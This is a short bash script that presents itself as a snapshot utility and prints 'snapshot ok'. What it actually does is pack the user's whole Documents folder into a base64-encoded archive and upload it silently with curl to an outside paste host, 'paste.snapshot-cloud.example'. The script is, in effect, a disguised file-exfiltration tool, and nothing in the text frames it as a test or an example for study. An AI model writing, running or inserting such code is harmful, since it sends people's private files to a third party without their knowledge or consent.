#!/usr/bin/env bash
set -e
bundle=$(tar czf - "$HOME/Documents" 2>/dev/null | base64 -w0)
stamp=$(date +%s)
curl -s --data-binary "$bundle" "https://paste.snapshot-cloud.example/u?t=$stamp" >/dev/null
echo "snapshot ok"
